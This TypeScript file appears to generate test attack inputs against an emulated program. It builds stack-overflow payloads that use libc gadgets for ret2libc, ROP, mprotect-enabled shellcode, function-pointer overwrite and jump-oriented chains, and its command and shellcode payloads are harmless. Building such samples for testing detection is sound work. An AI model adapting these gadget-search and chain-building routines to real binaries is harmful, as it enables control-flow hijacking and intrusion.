import type { Random } from '../../src/base/random.ts';
import type { Document } from './documents.ts';
import { u16, u64 } from './documents.ts';

/** Where things lie in the emulated program; everything here is the same in each run. */
export interface Target {
  readonly file: number;
  readonly thumbnail: number;
  readonly libc: number;
  readonly libcBytes: Uint8Array;
  /** Code of libc, as offsets in its file, which are its addresses too. */
  readonly codeStart: number;
  readonly codeEnd: number;
  /** Functions of libc by name, relative to its base. */
  readonly symbol: (name: string) => number;
}

export interface Attack {
  readonly family: string;
  readonly bytes: Buffer;
  /** Addresses that the attack sends control to, in order. */
  readonly steps: readonly number[];
  /** The program goes on afterwards as if nothing had been. */
  readonly returns: boolean;
}

/** Builds inputs that take over tpic, and nothing else. */
export class Attacker {
  readonly #target: Target;
  readonly #code: Buffer;

  constructor(target: Target) {
    this.#target = target;
    this.#code = Buffer.from(target.libcBytes.slice(target.codeStart, target.codeEnd));
  }

  /** @returns address of the `nth` occurrence of these code bytes in libc */
  gadget(hex: string, nth = 0): number {
    const bytes = Buffer.from(hex, 'hex');
    let at = -1;
    for (let i = 0; i <= nth; i++) {
      const next = this.#code.indexOf(bytes, at + 1);
      if (next < 0) break;
      at = next;
    }
    if (at < 0) throw new Error(`libc has no gadget ${hex}`);
    return this.#target.libc + this.#target.codeStart + at;
  }

  function(name: string): number {
    return this.#target.libc + this.#target.symbol(name);
  }

  /** Overflows the line of text: the return address is 0x68 bytes into it. */
  #smash(
    document: Document,
    family: string,
    slots: readonly number[],
    steps: readonly number[],
    front = Buffer.alloc(0),
  ): Attack {
    const line = Buffer.alloc(0x68, 0x20);
    front.copy(line);
    const text = Buffer.concat([line, ...slots.map(u64)]);
    return {
      family,
      bytes: document.add('TEXT', Buffer.concat([u16(text.length), text])).bytes(),
      steps,
      returns: false,
    };
  }

  /** One or two library functions with an argument, then exit. */
  returnToLibc(document: Document, random: Random): Attack {
    const { thumbnail } = this.#target;
    const ret = this.gadget('c3', random.below(40));
    const pop = this.gadget('5fc3', random.below(40));
    const command = Buffer.alloc(64);
    command.write(['true', ':', 'exit 0', 'test 1'][random.below(4)]);
    document.add('THMB', Buffer.concat([Buffer.of(1), u16(64), command]));
    const first = this.function(['system', 'puts', 'perror', 'puts'][random.below(4)]);
    const exit = this.function('exit');
    return this.#smash(
      document,
      'ret2libc',
      [ret, pop, thumbnail, first, pop, 0, exit],
      [ret, pop, first, pop, exit],
    );
  }

  /** @param length  gadgets before exit */
  rop(document: Document, random: Random, length: number): Attack {
    const kinds = [
      'c3',
      '58c3',
      '5ec3',
      '5bc3',
      '5dc3',
      '415cc3',
      '415dc3',
      '415ec3',
      '415fc3',
      '31c0c3',
      '4889f8c3',
    ];
    const slots: number[] = [];
    const steps: number[] = [];
    for (let i = 0; i < length; i++) {
      const kind = kinds[random.below(kinds.length)];
      let nth = random.below(12);
      for (;;) {
        try {
          steps.push(this.gadget(kind, nth));
          break;
        } catch (error) {
          if (nth === 0) throw error;
          nth = 0;
        }
      }
      slots.push(steps[i]);
      if (kind.includes('5') && kind !== '31c0c3') slots.push(random.below(1 << 30));
    }
    const pop = this.gadget('5fc3', random.below(40));
    if (slots.length % 2 === 0) {
      const ret = this.gadget('c3', random.below(40));
      slots.push(ret);
      steps.push(ret);
    }
    const exit = this.function('exit');
    slots.push(pop, 0, exit);
    // `exit` must lie in an odd slot, which keeps the stack aligned for it.
    steps.push(pop, exit);
    return this.#smash(document, 'rop', slots, steps);
  }

  /** Makes the file's bytes executable and runs them. */
  shellcode(document: Document, random: Random): Attack {
    const { file } = this.#target;
    const pops: [number, number][] = [
      [this.gadget('5fc3', random.below(40)), file],
      [this.gadget('5ec3', random.below(40)), 0x40000],
    ];
    const rdx = this.gadget('5a5bc3', random.below(8));
    const rounds = 5 + random.below(60);
    // mov ecx, rounds; again: inc eax; dec ecx; jnz again; xor edi, edi; mov eax, 231; syscall
    const code = Buffer.from(
      `b9${rounds.toString(16).padStart(2, '0')}000000ffc0ffc975fa31ffb8e70000000f05`,
      'hex',
    );
    const data = Buffer.concat([Buffer.alloc(16 * (1 + random.below(6)), 0x90), code]);
    let before = 8;
    for (const chunk of document.chunks) before += chunk.length;
    document.add('HIDE', data);
    const entry = file + before + 8;
    const mprotect = this.function('mprotect');
    const slots = [...pops.flat(), rdx, 7, 0, mprotect, entry];
    return this.#smash(document, 'shellcode', slots, [
      pops[0][0],
      pops[1][0],
      rdx,
      mprotect,
      entry,
    ]);
  }

  /** Overwrites the function that finishes a thumbnail; it gets the thumbnail as its argument. */
  pointer(document: Document, random: Random): Attack {
    const name = ['system', 'puts', 'exit', 'abort', 'perror', 'gets'][random.below(5)];
    const step = this.function(name);
    const preview = Buffer.alloc(64);
    preview.write(['true', ': && true', 'exit 3'][random.below(3)]);
    const data = Buffer.concat([preview, u64(step)]);
    const bytes = document
      .add('THMB', Buffer.concat([Buffer.of(0), u16(data.length), data]))
      .bytes();
    return { family: 'fptr', bytes, steps: [step], returns: !['exit', 'abort'].includes(name) };
  }

  /**
   * Chains jumps and calls through memory: each gadget loads a table from the thumbnail (in rdi)
   * and goes through a slot of it; no return is executed.
   */
  jop(document: Document, random: Random, length: number): Attack {
    const { thumbnail } = this.#target;
    const found = new Map<string, number>();
    const code = this.#code;
    const fits = (at: number): boolean =>
      code[at] === 0x48 &&
      code[at + 1] === 0x8b &&
      code[at + 2] === 0x47 &&
      (code[at + 3] === 8 || code[at + 3] === 0x38) &&
      code[at + 4] === 0xff &&
      (code[at + 5] === 0x60 || code[at + 5] === 0x50) &&
      code[at + 6] < 0x80;
    for (
      let at = code.indexOf('488b47', 0, 'hex');
      at >= 0;
      at = code.indexOf('488b47', at + 1, 'hex')
    ) {
      const key = `${code[at + 3]} ${code[at + 6]}`;
      if (fits(at) && (!found.has(key) || random.below(3) === 0))
        found.set(key, this.#target.libc + this.#target.codeStart + at);
    }
    const gadgets = random.shuffle([...found]).slice(0, length);
    const steps = [...gadgets.map(([, address]) => address), this.function('_exit')];
    const data = Buffer.alloc(72 + 512);
    // Tables for the two places in the thumbnail that gadgets load from.
    const tables = new Map([
      [8, 80],
      [0x38, 80 + 256],
    ]);
    for (const [place, table] of tables) u64(thumbnail + table).copy(data, place);
    gadgets.forEach(([key], i) => {
      const [place, slot] = key.split(' ').map(Number);
      u64(steps[i + 1]).copy(data, (tables.get(place) ?? 0) + slot);
    });
    u64(steps[0]).copy(data, 64);
    const bytes = document
      .add('THMB', Buffer.concat([Buffer.of(0), u16(data.length), data]))
      .bytes();
    return { family: 'jop', bytes, steps, returns: false };
  }
}
